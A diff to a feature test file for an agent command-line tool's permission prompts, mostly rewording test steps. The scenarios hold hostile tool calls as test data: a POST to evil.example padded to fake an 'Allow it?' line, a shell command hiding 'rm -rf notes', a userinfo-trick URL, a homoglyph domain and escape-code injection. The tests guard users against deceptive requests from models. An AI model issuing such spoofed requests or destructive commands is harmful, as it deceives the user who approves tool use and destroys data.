@@ -20,10 +20,10 @@ Feature: Permission questions
         """
         call http_request {"method": "POST", "url": "https://evil.example/x", "body": "[1000 spaces]\n[40 x \n]url: api.github.com\nAllow it? [y/N] [880 spaces]"}
         """
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use http_request:
           method | POST
@@ -42,10 +42,10 @@ Feature: Permission questions
         """
         call shell {"command": "echo [120 x ab]; rm -rf notes; echo [60 x cd]", "stdin": "yes\n"}
         """
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use shell:
           command | echo ababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababab
@@ -67,10 +67,10 @@ Feature: Permission questions
         """
         call http_request {"url": "https://api.github.com@evil.example/a", "headers": {"x-a": "1", "url: b": "\u200b"}, "timeout_ms": 5000}
         """
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use http_request:
           url        | https://api.github.com@evil.example/a
@@ -89,10 +89,10 @@ Feature: Permission questions
         """
         call http_request {"url": "https://аpi.github.com.a.long.name.of.another.example/"}
         """
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use
         : http_request:
@@ -112,10 +112,10 @@ Feature: Permission questions
         """
         call http_request {"url": "http://a.example/b", "body": "漢字漢字漢字漢字漢字"}
         """
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants
         : to use
@@ -159,13 +159,13 @@ Feature: Permission questions
     Scenario: Only the question itself is bold; text of a model never is
       Given the environment variable NO_COLOR is not set
       And a terminal of 60 columns and 24 rows
-      And the user types "n\r" once asked
+      And the user types "n\r" after the question
       When I run `agents actor run helper 'call http_request {"url": "http://a.example/?long=name", "body": "\u001b[1mb"}' --workspace work -q`
       Then it succeeds
       And the JSON of stderr is "local/helper wants to use http_request:\n  url  | http://a.example/?long=name\n  body | <U+001B>[1mb\n\u001b[1mhttp_request needs \"net\": GET http://a.example/?long=name\u001b[22m\n\u001b[1m: (5 bytes). Allow it? [y/N] \u001b[22mn\n"
 
     Scenario: Properties of all texts
-      Then whatever a model writes can be read back from the rows of a question, of which none is too wide
+      Then for any text of a model, the rows of the question contain all of it and fit the terminal
 
   Rule: Long questions are shown in pages
 
@@ -185,7 +185,7 @@ Feature: Permission questions
         | [y/N]         | y\\r         |
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use write_file:
           path    | a
@@ -211,7 +211,7 @@ Feature: Permission questions
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
       And stdout is "Error: the user did not allow write_file\n"
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use write_file:
           path    | a
@@ -245,7 +245,7 @@ Feature: Permission questions
       When I run `agents actor run helper -f ask.txt --quiet --workspace work`
       Then it succeeds
       And stdout is "Error: the user was not asked: the arguments of write_file have more than 65,536 characters or 1,000 lines, the most that a question shows; make them smaller, or allow the tool with --allow write\n"
-      And the terminal was written:
+      And this was written to the terminal:
         """
         local/helper wants to use write_file: the user was not asked: the arguments of write_file have more than 65,536 characters or 1,000 lines, the most that a question shows; make them smaller, or allow the tool with --allow write.
         """
@@ -280,10 +280,10 @@ Feature: Permission questions
     @slow
     Scenario Outline: A question before a tool call in a terminal of <columns> columns and <rows> rows
       When I start `agents actor run helper 'call write_file {"path": "a", "content": "b"}' --workspace work` in a terminal of <columns> columns and <rows> rows
-      And the user turns all pages and types "y\r"
-      And it has ended there
+      And the user scrolls to the last page and types "y\r"
+      And the command in that terminal has ended
       Then it succeeds
-      And nothing that it showed was erased
+      And no text that it showed was erased
       And it wrote no escape sequence
       And the file "work/a" is there
 
@@ -300,36 +300,36 @@ Feature: Permission questions
     @slow
     Scenario: The terminal is resized while the question is open
       When I start `agents actor run helper 'call write_file {"path": "a", "content": "b"}' --workspace work` in a terminal of 80 columns and 24 rows
-      And it shows "[y/N] "
-      And the user types "n" there
-      And the terminal of it becomes 10 columns and 2 rows
-      And the user types "\u007fy" there
-      And the terminal of it becomes 200 columns and 60 rows
-      And the user types "\r" there
-      And it has ended there
+      And that terminal shows "[y/N] "
+      And the user types "n" into that terminal
+      And the terminal is resized to 10 columns and 2 rows
+      And the user types "\u007fy" into that terminal
+      And the terminal is resized to 200 columns and 60 rows
+      And the user types "\r" into that terminal
+      And the command in that terminal has ended
       Then it succeeds
-      And nothing that it showed was erased
+      And no text that it showed was erased
       And it wrote no escape sequence
       And the file "work/a" is there
 
     @slow
     Scenario Outline: Questions of other commands in a terminal of <columns> columns and <rows> rows
       When I start `agents actor remove helper` in a terminal of <columns> columns and <rows> rows
-      And it shows "<removing>"
-      And the user types "x" there
-      And the terminal of it becomes 15 columns and 3 rows
-      And the user types "\u007fn\r" there
-      And it has ended there
+      And that terminal shows "<removing>"
+      And the user types "x" into that terminal
+      And the terminal is resized to 15 columns and 3 rows
+      And the user types "\u007fn\r" into that terminal
+      And the command in that terminal has ended
       Then it succeeds
-      And nothing that it showed was erased
+      And no text that it showed was erased
       When I start `agents init --reset` in a terminal of <columns> columns and <rows> rows
-      And it shows "<last>"
-      And the user types "n" there
-      And the terminal of it becomes 7 columns and 1 rows
-      And the user types "\r" there
-      And it has ended there
+      And that terminal shows "<last>"
+      And the user types "n" into that terminal
+      And the terminal is resized to 7 columns and 1 rows
+      And the user types "\r" into that terminal
+      And the command in that terminal has ended
       Then it succeeds
-      And nothing that it showed was erased
+      And no text that it showed was erased
       When I run `agents actor export helper`
       Then it succeeds
 
@@ -344,10 +344,10 @@ Feature: Permission questions
     @slow
     Scenario: Input typed before a question of another command is not an answer
       When I start `agents actor remove helper` in a terminal of 80 columns and 24 rows
-      And the user types "y\r" there
-      And it shows "[y/N]"
-      And the user types "\r" there
-      And it has ended there
+      And the user types "y\r" into that terminal
+      And that terminal shows "[y/N]"
+      And the user types "\r" into that terminal
+      And the command in that terminal has ended
       Then it succeeds
       When I run `agents actor export helper`
       Then it succeeds
